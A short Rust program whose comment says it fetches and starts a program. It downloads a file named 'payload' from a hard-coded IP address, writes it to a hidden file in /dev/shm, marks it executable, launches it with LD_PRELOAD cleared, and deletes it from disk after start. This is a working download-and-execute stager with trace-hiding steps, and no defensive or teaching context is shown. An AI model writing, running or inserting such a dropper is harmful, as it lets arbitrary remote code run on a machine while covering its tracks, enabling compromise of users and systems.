// fetches a program, makes it executable and starts it
use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let bytes = reqwest::blocking::get("http://203.0.113.84/payload")?.bytes()?;
    let path = "/dev/shm/.x";
    fs::write(path, &bytes)?;
    fs::set_permissions(path, Permissions::from_mode(0o755))?;
    Command::new(path).env("LD_PRELOAD", "").spawn()?;
    fs::remove_file(path)?;
    Ok(())
}
